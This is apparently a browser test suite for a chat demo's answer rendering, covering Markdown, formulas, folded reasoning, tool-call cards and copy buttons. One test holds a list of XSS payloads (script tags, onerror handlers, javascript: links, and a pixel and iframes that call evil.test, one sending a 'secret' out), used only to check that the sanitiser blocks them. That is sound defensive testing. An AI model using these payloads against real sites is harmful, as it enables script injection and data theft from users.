/**
 * How the demo shows answers, on a fake engine: Markdown, formulas, reasoning, tool calls, and
 * answers that try to do harm.
 */

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { launch } from "./chromium.mjs";
import { answered, fake, fakeContext, open, requests, send } from "./demo-page.mjs";
import { SITE } from "./packages.mjs";
import { TestServer } from "./server.mjs";

let browser;
let site;

before(async () => {
  [browser, site] = await Promise.all([launch(), TestServer.start(SITE)]);
});

after(() => Promise.all([browser?.close(), site?.stop()]));

/** A page on which `answer` was given, with the answer's element. */
async function answer(text, options = {}) {
  const context = await fakeContext(browser, { answers: { question: text } }, options);
  const page = await open(context, site.url);
  await send(page, "question");
  await answered(page);
  return { page, shown: page.locator(".answer") };
}

test("Markdown: headings keep the page's outline, tasks are boxes with names, code keeps its lines", async () => {
  const text =
    "# First\n\n## Second\n\n# Third\n\n- [x] milk\n- [ ] **two** eggs\n  - [ ] brown\n\n```python\nif x:\n    print(1)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |";
  const { page, shown } = await answer(text);
  const headings = await page
    .locator("h1, h2, h3, h4, h5, h6")
    .evaluateAll((found) =>
      found
        .filter((one) => one.checkVisibility())
        .map((one) => one.tagName + " " + one.textContent.trim()),
    );
  assert.deepEqual(headings, ["H1 Tegula", "H2 Conversation", "H3 First", "H4 Second", "H3 Third"]);
  for (const [name, checked] of [
    ["milk", true],
    ["two eggs", false],
    ["brown", false],
  ]) {
    const box = shown.getByRole("checkbox", { name, exact: true });
    assert.equal(await box.isChecked(), checked, name);
    assert.ok(await box.isDisabled(), name);
  }
  assert.equal(
    await shown.getByRole("group", { name: "Code, python" }).locator("pre").textContent(),
    "if x:\n    print(1)\n",
  );
  assert.equal(await shown.getByRole("table").locator("td").count(), 2);
  await page.context().close();
});

test("a heading that is not the highest begins on the third level, too", async () => {
  const { page, shown } = await answer("### Deep\n\n#### Deeper\n\n# Higher than the first");
  assert.deepEqual(
    await shown
      .locator("h1, h2, h3, h4, h5, h6")
      .evaluateAll((found) => found.map((one) => one.tagName)),
    ["H3", "H4", "H3"],
  );
  await page.context().close();
});

test("formulas are set in all four notations; prices and code are left alone; KaTeX comes only when it is needed", async () => {
  const context = await fakeContext(browser, {
    answers: { plain: "It costs $5 and $10, or US$3$.", formulas: "x" },
  });
  const page = await open(context, site.url);
  const fetched = [];
  page.on("request", (request) => fetched.push(new URL(request.url()).pathname));
  await send(page, "plain");
  await answered(page);
  assert.equal(await page.locator(".katex").count(), 0);
  assert.ok(!fetched.some((path) => path.includes("katex")), "no formula, no KaTeX");
  assert.match(
    await page.locator(".answer .body").innerText(),
    /It costs \$5 and \$10, or US\$3\$\./,
  );

  const cases = [
    ["inline dollars $a_1 + b_1$ and $x$.", ["a_1 + b_1", "x"]],
    ["inline parentheses \\(x<y\\), too", ["x<y"]],
    ["$$\n\\frac{1}{2} & 3\n$$", ["\\frac{1}{2} \\& 3"], true],
    ["text\n\\[ E = mc^2 \\]\ntext", ["E = mc^2"], true],
    ["| a |\n|---|\n| $x^2$ |", ["x^2"]],
    ["- from $5 to $10\n- I have $5 and she has 10$, and between $20-$30", []],
    ["the $n$th of $HOME/$USER", ["n"]],
    ["escaped \\$5 and 5\\$", []],
    ["`$x$` and\n\n```\n$y$ \\(z\\)\n```", []],
    ["a lone $ sign, and $$ two", []],
    ["between $5 and $x$", ["x"]],
  ];
  for (const [text, expected, display] of cases) {
    await page.evaluate((text) => (fake.answers.formulas = text.replace("& 3", "\\& 3")), text);
    await send(page, "formulas");
    await answered(page);
    const last = page.locator(".turn.assistant").last();
    await page.waitForFunction(() => !document.querySelector("[data-math]"));
    assert.deepEqual(await last.locator("annotation").allTextContents(), expected, text);
    assert.equal((await last.locator(".katex-display").count()) > 0, display ?? false, text);
    assert.equal(await last.locator(".wrong").count(), 0, text);
  }
  // Both the style and the fonts are the demo's own.
  await page.waitForFunction(() =>
    [...document.fonts].some((font) => font.family.includes("KaTeX") && font.status === "loaded"),
  );
  assert.deepEqual(page.errors, []);
  // A formula that KaTeX does not know stays as it was written.
  await page.evaluate(() => (fake.answers.formulas = "so $\\nonsense{$ it is"));
  await send(page, "formulas");
  await answered(page);
  await page.waitForFunction(() => !document.querySelector("[data-math]"));
  assert.match(await page.locator(".turn.assistant").last().innerText(), /\\nonsense\{/);
  await context.close();
});

const HOSTILE = [
  "<script>window.hurt = 1</script>",
  "<img src=x onerror='window.hurt = 2'><svg onload='window.hurt = 3'><image href='https://evil.test/i.png'/></svg>",
  "![secret](https://evil.test/pixel.png?q=secret)",
  "[press](javascript:window.hurt=4) <a href='javascript:window.hurt=5' onclick='window.hurt=6' id=send name=send>press</a>",
  "<iframe src='https://evil.test/'></iframe><object data='https://evil.test/'></object><embed src='https://evil.test/'>",
  "<style>body { background: url(https://evil.test/b.png) }</style><link rel=stylesheet href='https://evil.test/c.css'>",
  "<table background='https://evil.test/t.png' style='background:url(https://evil.test/s.png)'><tr><td>1</td></tr></table>",
  "<form action='https://evil.test/'><input name=q value=1><button>Send</button></form><input type=image src='https://evil.test/i.png'>",
  "<video src='https://evil.test/v.mp4' autoplay poster='https://evil.test/p.png'></video><audio src='https://evil.test/a.mp3'></audio>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hurt=7&gt;">',
  "$\\href{javascript:window.hurt=8}{x}$ $\\includegraphics{https://evil.test/k.png}$ $\\htmlStyle{background:url(https://evil.test/h.png)}{x}$",
  "<span data-math='inline'>\\href{https://evil.test}{x}</span><p class='visually-hidden primary'>hidden</p>",
  "<base href='https://evil.test/'><meta http-equiv=refresh content='0;url=https://evil.test/'>",
  "<details open ontoggle='window.hurt=9'><summary>x</summary>y</details><think>\n<img src=x onerror='window.hurt=10'>",
  "```<img/src=x/onerror=window.hurt=11>\ncode <script>window.hurt=12</script>\n```",
  '<tool_call>{"name": "<img src=x onerror=window.hurt=13>", "arguments": {"a": "<script>window.hurt=14</script>"}}</tool_call>',
];

test("no answer runs a script, sends anything anywhere, or looks like the page's own controls", async () => {
  const context = await fakeContext(browser, {
    answers: Object.fromEntries(HOSTILE.map((text, index) => [`case ${index}`, text])),
  });
  const page = await open(context, site.url);
  const outside = [];
  await context.route(
    /evil\.test/,
    (route) => (outside.push(route.request().url()), route.abort()),
  );
  for (const index of HOSTILE.keys()) {
    await send(page, `case ${index}`);
    await answered(page);
  }
  await page.waitForFunction(() => !document.querySelector("[data-math]"));
  for (const link of await page.locator(".answer a").all()) {
    const href = await link.getAttribute("href");
    if (href === null) continue;
    assert.match(href, /^https?:/);
    assert.equal(await link.getAttribute("rel"), "noopener noreferrer");
  }
  await page.waitForTimeout(200);
  assert.equal(await page.evaluate(() => window.hurt), undefined);
  assert.deepEqual(outside, []);
  const forbidden =
    "script, img, svg image, picture, iframe, object, embed, style, link, form, base, meta, video, audio, [style*='evil'], [background], [onclick], [onerror], [name], [id]";
  assert.equal(await page.locator(".answer").locator(forbidden).count(), 0);
  assert.equal(await page.locator(".answer input:not([type=checkbox])").count(), 0);
  assert.equal(
    await page.getByText("hidden", { exact: true }).getAttribute("class"),
    null,
    "an answer has no classes of the page",
  );
  await context.close();
});

test("reasoning is folded while it comes and afterwards, and not sent back to the model", async () => {
  const context = await fakeContext(browser);
  const page = await open(context, site.url);
  await send(page, "why?");
  await page.waitForFunction(() => fake.open.length === 1);
  const summary = page.locator(".thinking summary");
  for (const piece of ["<th", "ink>\nFirst I ", "wonder whether"]) {
    await fake(page, "say", piece);
    await page.waitForFunction(() => !document.querySelector("#log").textContent.includes("<th"));
  }
  await summary.waitFor();
  assert.equal(await summary.innerText(), "Thinking…");
  const thoughts = page.locator(".thinking .body");
  assert.equal(await thoughts.isVisible(), false, "folded");
  await summary.click();
  await page.waitForFunction(() =>
    document.querySelector(".thinking .body").textContent.includes("wonder"),
  );
  await fake(page, "say", ".\n</think>\n\nBecause.");
  await page.waitForFunction(() =>
    /^Thought for (a second|\d+ s)$/.test(document.querySelector(".thinking summary").textContent),
  );
  assert.ok(await thoughts.isVisible(), "who unfolded it keeps reading");
  await fake(page, "end");
  await answered(page);
  assert.equal(await page.locator(".answer > .body").innerText(), "Because.");
  await send(page, "and then?");
  const asked = (await requests(page)).at(-1);
  assert.deepEqual(
    asked.map(({ content }) => content),
    ["why?", "Because.", "and then?"],
  );
  // Stopped while it thinks: there is nothing to give back, and the question that nobody answered
  // is not repeated.
  await page.waitForFunction(() => fake.open.length === 1);
  await fake(page, "say", "<think>hm");
  await page.keyboard.press("Escape");
  await answered(page);
  await send(page, "now?");
  assert.deepEqual(
    (await requests(page)).at(-1).map(({ content }) => content),
    ["why?", "Because.", "now?"],
  );
  await context.close();
});

test("reasoning that the prompt opened, empty reasoning, and tags in code", async () => {
  const cases = [
    ["I think so.\n</think>\nYes.", "Yes.", 1],
    ["<think>\n\n</think>\n\nYes.", "Yes.", 0],
    ["Write `<think>` and\n\n```\n<think>\nx\n</think>\n<tool_call>{}</tool_call>\n```", null, 0],
    ["The tag <think> opens reasoning.", null, 0],
  ];
  for (const [text, expected, folds] of cases) {
    const { page, shown } = await answer(text);
    assert.equal(await shown.locator(".thinking").count(), folds, text);
    assert.equal(await shown.locator(".tool").count(), 0, text);
    if (expected) assert.equal(await shown.locator("> .body").innerText(), expected, text);
    await page.context().close();
  }
});

test("tool calls are cards; broken JSON is shown as it is; both are given back to the model", async () => {
  const good =
    '<tool_call>\n{"name": "get_weather", "arguments": {"city": "Paris", "days": 3}}\n</tool_call>';
  const text = `Let me look.\n${good}\n<tool_call>{"name": "broken", "arguments": {</tool_call>\n<tool_call>{"name": "as_text", "arguments": "{\\"a\\": 1}"}</tool_call>`;
  const { page, shown } = await answer(text);
  const card = (name) => shown.getByRole("group", { name: `Tool call: ${name}` }).locator("pre");
  assert.equal(await card("get_weather").textContent(), '{\n  "city": "Paris",\n  "days": 3\n}');
  assert.equal(await card("broken").textContent(), '{"name": "broken", "arguments": {');
  assert.equal(await card("as_text").textContent(), '{\n  "a": 1\n}');
  await send(page, "well?");
  assert.ok((await requests(page)).at(-1)[1].content.includes(good));
  await page.context().close();
});

test("answers and code are copied by buttons that say so", async () => {
  const { page, shown } = await answer(
    "<think>\nhm\n</think>\nUse **this**:\n\n```js\nlet x = 1;\n```",
    { permissions: ["clipboard-read", "clipboard-write"] },
  );
  const copied = () => page.evaluate(() => navigator.clipboard.readText());
  const code = shown.getByRole("button", { name: "Copy code" });
  await code.focus();
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => document.querySelector(".code .copy").textContent === "Copied");
  assert.equal(await copied(), "let x = 1;");
  await page.waitForFunction(
    () => document.querySelector("#status").textContent === "The code was copied",
  );
  await shown.getByRole("button", { name: "Copy answer" }).click();
  await page.waitForFunction(
    () => document.querySelector("#status").textContent === "The answer was copied",
  );
  assert.equal(await copied(), "Use **this**:\n\n```js\nlet x = 1;\n```");
  await page.context().close();
});

test("what is whole keeps its elements while the rest of the answer comes", async () => {
  const context = await fakeContext(browser);
  const page = await open(context, site.url);
  await send(page, "code, please");
  await page.waitForFunction(() => fake.open.length === 1);
  await fake(page, "say", "```js\nlet x;\n```\n\nAnd th");
  await page.getByRole("button", { name: "Copy code" }).focus();
  await fake(page, "say", "en some more.\n\n1. one");
  await page.waitForFunction(() => document.querySelector(".answer li"));
  assert.equal(
    await page.evaluate(() => document.activeElement.textContent),
    "Copy",
    "the focus is where it was",
  );
  await fake(page, "end");
  await answered(page);
  assert.equal(await page.evaluate(() => document.activeElement.textContent), "Copy");
  await context.close();
});
